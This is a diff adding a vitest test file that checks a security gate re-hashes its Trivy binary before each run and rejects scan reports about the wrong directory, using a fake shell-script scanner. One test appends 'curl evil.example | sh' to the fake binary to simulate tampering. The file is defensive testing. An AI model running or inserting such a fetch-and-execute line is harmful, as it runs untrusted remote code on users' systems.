@@ -1,0 +1,144 @@
+// Every Trivy run is preceded by a fresh hash of the binary, and a filesystem report must name
+// the context this run scanned. A shell script stands in for Trivy here: the point is what the
+// gate does *before* running it (refuse changed bytes) and with what it wrote (refuse a report
+// about another directory), which real Trivy cannot be made to get wrong.
+import { createHash } from 'node:crypto';
+import { existsSync } from 'node:fs';
+import { appendFile, chmod, mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { runTrivy } from '../../src/adapters/trivy/run-trivy.js';
+import { createTrivyScanner } from '../../src/adapters/trivy/scanner.js';
+import { copyHashed } from '../../src/adapters/trivy/verified-binary.js';
+import { GateError } from '../../src/domain/gate-error.js';
+
+let scratch: string;
+
+beforeAll(async () => {
+  scratch = await mkdtemp(join(tmpdir(), 'csg-i13b-verified-run-'));
+});
+afterAll(async () => {
+  await rm(scratch, { recursive: true, force: true });
+});
+
+/** A Trivy stand-in that records each run in `marker` and writes an fs report naming `artifact` (default: its last argument). */
+async function fakeTrivy(name: string, marker: string, artifact?: string): Promise<string> {
+  const path = join(scratch, name);
+  const named = artifact === undefined ? '"$last"' : `'${artifact}'`;
+  await writeFile(
+    path,
+    [
+      '#!/bin/sh',
+      `echo ran >> '${marker}'`,
+      'out=""; last=""; prev=""',
+      'for a in "$@"; do [ "$prev" = "--output" ] && out="$a"; prev="$a"; last="$a"; done',
+      `[ -n "$out" ] && printf '{"SchemaVersion":2,"ArtifactName":"%s","ArtifactType":"filesystem","Results":[]}' ${named} > "$out"`,
+      'exit 0',
+      '',
+    ].join('\n'),
+  );
+  await chmod(path, 0o755);
+  return path;
+}
+
+async function rejection(promise: Promise<unknown>): Promise<GateError> {
+  const error = await promise.then(
+    () => undefined,
+    (e: unknown) => e,
+  );
+  expect(error).toBeInstanceOf(GateError);
+  return error as GateError;
+}
+
+const sha256 = async (path: string) => createHash('sha256').update(await readFile(path)).digest('hex');
+
+describe('the verified Trivy is hashed again before every run', () => {
+  it('copyHashed writes a private copy (0700) and reports the hash of exactly the bytes it wrote', async () => {
+    const marker = join(scratch, 'copy-marker');
+    const source = await fakeTrivy('copy-source', marker);
+    const copy = await copyHashed(source, join(scratch, 'run-copy'), 'trivy');
+    expect(copy.sha256).toBe(await sha256(source));
+    expect(await sha256(copy.path)).toBe(copy.sha256);
+    const { statSync } = await import('node:fs');
+    expect(statSync(copy.path).mode & 0o777).toBe(0o700);
+    expect(statSync(join(copy.path, '..')).mode & 0o077).toBe(0);
+  });
+
+  it('runs an unchanged binary; refuses one changed after verification without running it (trivy-install)', async () => {
+    const marker = join(scratch, 'run-marker');
+    const binary = await fakeTrivy('trivy-run', marker);
+    const recorded = await sha256(binary);
+    const request = { trivyPath: binary, trivySha256: recorded, args: ['--version'], cwd: scratch, killAfterMs: 10_000, onLine: () => undefined };
+
+    expect((await runTrivy(request)).exitCode).toBe(0);
+    expect(await readFile(marker, 'utf8')).toBe('ran\n');
+
+    await appendFile(binary, 'curl evil.example | sh\n');
+    const error = await rejection(runTrivy(request));
+    expect(error.reason).toBe('trivy-install');
+    expect(error.message).toContain('changed after it was verified');
+    expect(error.message).toContain(`expected ${recorded}`);
+    expect(error.remedy).toMatch(/compromised/);
+    expect(await readFile(marker, 'utf8')).toBe('ran\n');
+  });
+
+  it('the scanner checks before the DB step and before each scan', async () => {
+    const marker = join(scratch, 'scanner-marker');
+    const binary = await fakeTrivy('trivy-scanner', marker);
+    const context = join(scratch, 'context');
+    await mkdir(context, { recursive: true });
+    const scanner = createTrivyScanner({
+      trivyPath: binary,
+      trivySha256: await sha256(binary),
+      cacheDir: join(scratch, 'cache'),
+      timeoutSeconds: 30,
+      scanners: ['vuln'],
+      dbRepositories: ['127.0.0.1:1/nothing:2'],
+      skipDbUpdate: false,
+      workDir: join(scratch, 'scanner-work'),
+      log: { info: () => undefined, warning: () => undefined },
+      retryDelaysMs: [],
+    });
+    await scanner.prepareDatabase().catch(() => undefined);
+    const runsBefore = existsSync(marker) ? (await readFile(marker, 'utf8')).split('\n').length : 0;
+    expect(runsBefore).toBeGreaterThan(0);
+    await writeFile(binary, '#!/bin/sh\nexit 0\n');
+    const error = await rejection(scanner.scanFilesystem(context));
+    expect(error.reason).toBe('trivy-install');
+    expect((await readFile(marker, 'utf8')).split('\n').length).toBe(runsBefore);
+  });
+});
+
+describe('a filesystem report must be about the scanned context', () => {
+  function scanner(binary: string) {
+    return createTrivyScanner({
+      trivyPath: binary,
+      cacheDir: join(scratch, 'cache'),
+      timeoutSeconds: 30,
+      scanners: ['vuln'],
+      dbRepositories: [],
+      skipDbUpdate: true,
+      workDir: join(scratch, `work-${Math.random().toString(16).slice(2)}`),
+      log: { info: () => undefined, warning: () => undefined },
+    });
+  }
+
+  it('accepts the report naming the context', async () => {
+    const context = join(scratch, 'ctx-ok');
+    await mkdir(context, { recursive: true });
+    const report = await scanner(await fakeTrivy('trivy-ok', join(scratch, 'm1'))).scanFilesystem(context);
+    expect(report.ArtifactName).toBe(context);
+  });
+
+  it.each([
+    ['another run’s context', '/tmp/someone-else/context'],
+    ['no artifact name', ''],
+  ])('refuses a report about %s (scan-error)', async (_label, artifact) => {
+    const context = join(scratch, 'ctx-other');
+    await mkdir(context, { recursive: true });
+    const error = await rejection(scanner(await fakeTrivy(`trivy-other-${artifact.length}`, join(scratch, 'm2'), artifact)).scanFilesystem(context));
+    expect(error.reason).toBe('scan-error');
+    expect(error.message).toContain(`not the build context ${context}`);
+  });
+});
